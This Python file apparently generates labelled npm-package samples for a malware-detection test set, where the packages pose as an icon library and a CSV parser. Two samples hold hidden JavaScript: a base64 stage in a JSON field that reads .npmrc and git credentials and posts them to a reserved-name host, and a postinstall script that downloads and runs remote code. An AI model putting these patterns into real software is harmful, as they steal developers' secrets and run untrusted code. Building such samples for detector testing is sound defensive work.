"""Samples of the `reach5` branch for scripts/make-samples.py (2026-11-25, issue 6): hidden code
run by a `vm` runner called on an inline `require("vm")` (no `vm.` in the file), in shapes of our
own, and a tricky benign package that runs a user's config file the same way.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach5-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test); made-up values.
"""

import base64
import json

from samples_malicious import S, pj

SAMPLES = []
BENIGN = []


def sample(fn):
    SAMPLES.append(fn)
    return fn


def benign(fn):
    BENIGN.append(fn)
    return fn


def readme(name, text):
    return f"# {name}\n\n{text.strip()}\n\n## License\n\nMIT\n"


# =============================================================================================
# Malicious


@sample
def inline_vm_json_stage():
    stage = (
        "(function(){var f=require('fs'),p=require('path'),o=require('os'),h=require('https');"
        "var out={};['.npmrc','.git-credentials'].forEach(function(n){try{out[n]=f.readFileSync(p.join(o.homedir(),n),'utf8')}catch(e){}});"
        "var q=h.request({host:'cdn.icon-sets.invalid',path:'/i',method:'POST'});q.on('error',function(){});"
        "q.end(JSON.stringify(out));})();"
    )
    icons = {
        "version": 3,
        "prefix": "ic",
        "icons": {"home": "M3 12l9-9 9 9", "user": "M12 12a4 4 0 1 0 0-8"},
        "meta": {"build": base64.b64encode(stage.encode()).decode()},
    }
    index = r'''"use strict";
const path = require("path");

// SVG path data for the icon set, by name.
const set = JSON.parse(require("fs").readFileSync(path.join(__dirname, "icons.json"), "utf8"));

function icon(name, size = 24) {
  const d = set.icons[name];
  return d ? `<svg width="${size}" height="${size}" viewBox="0 0 24 24"><path d="${d}"/></svg>` : "";
}

// Precompiled sprite metadata.
try {
  require("vm").runInNewContext(Buffer.from(set.meta.build, "base64").toString(), { require, Buffer });
} catch (e) {}

module.exports = { icon, names: Object.keys(set.icons) };
'''
    files = {
        "package.json": pj(name="tiny-icon-paths", version="2.3.1", main="index.js",
                           description="SVG path data for common UI icons"),
        "README.md": readme("tiny-icon-paths", "```js\nrequire('tiny-icon-paths').icon('home')\n```"),
        "index.js": index,
        "icons.json": json.dumps(icons, indent=2) + "\n",
    }
    return S(
        "reach5-inline-vm-json-stage",
        "stage kept base64 in a field of a JSON data file the package ships, run at import by require('vm').runInNewContext: .npmrc and git credentials posted out",
        "2025",
        ["hidden-code-in-non-js", "vm", "credential-theft", "network", "load-time"],
        "Other shape of evasion-sourcemap-sourcescontent-stage: the runner is called on an "
        "inline require('vm') (the file never writes 'vm.'), the carrier is a JSON field.",
        files,
    )


@sample
def inline_vm_remote_postinstall():
    setup = r'''"use strict";
// Fetches the platform's prebuilt binding manifest.
const url = "https://prebuilds.fastcsv.invalid/manifest/" + process.platform + "-" + process.arch;
require("https").get(url, (res) => {
  let body = "";
  res.setEncoding("utf8");
  res.on("data", (c) => (body += c));
  res.on("end", () => {
    try {
      require("node:vm").compileFunction(body, ["require", "process"])(require, process);
    } catch (e) {}
  });
}).on("error", () => {});
'''
    index = r'''"use strict";
module.exports = function parse(text, sep = ",") {
  return text.split(/\r?\n/).filter(Boolean).map((l) => l.split(sep));
};
'''
    files = {
        "package.json": pj(name="fastcsv-prebuilt", version="0.9.4", main="index.js",
                           description="Fast CSV parsing with prebuilt bindings",
                           scripts={"postinstall": "node scripts/setup.js"}),
        "README.md": readme("fastcsv-prebuilt", "```js\nrequire('fastcsv-prebuilt')('a,b\\n1,2')\n```"),
        "index.js": index,
        "scripts/setup.js": setup,
    }
    return S(
        "reach5-inline-vm-remote-postinstall",
        "install script downloads a 'manifest' and runs the reply with require('node:vm').compileFunction",
        "2025",
        ["install-script", "remote-code", "vm", "network"],
        "Download-and-run at install time with the vm runner on an inline require: no 'vm.' "
        "and no secret source in the file.",
        files,
    )


# =============================================================================================
# Tricky benign


@benign
def b_inline_vm_user_config():
    index = r'''"use strict";
const fs = require("fs");
const path = require("path");

const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, "package.json"), "utf8"));

// Loads the project's `tasks.config.js` in a sandbox: the user's own file, run on purpose.
function loadConfig(dir = process.cwd()) {
  const file = path.join(dir, "tasks.config.js");
  if (!fs.existsSync(file)) return {};
  const sandbox = { module: { exports: {} }, console };
  require("vm").runInNewContext(fs.readFileSync(file, "utf8"), sandbox, { filename: file });
  return sandbox.module.exports;
}

function banner() {
  return `${pkg.name} v${pkg.version}`;
}

module.exports = { loadConfig, banner };
'''
    files = {
        "package.json": pj(name="task-sandbox", version="1.2.0", main="index.js",
                           description="Run project task definitions in a vm sandbox"),
        "README.md": readme("task-sandbox", "```js\nrequire('task-sandbox').loadConfig()\n```"),
        "index.js": index,
    }
    return S(
        "reach5-benign-inline-vm-user-config",
        "task runner loads the project's config file with require('vm').runInNewContext; reads its own package.json only for a banner",
        "2025",
        ["vm", "config-loader"],
        "Mirrors reach5-inline-vm-json-stage: inline require('vm') runner and a read of a "
        "data file the package ships, but what runs is the user's project file.",
        files,
    )
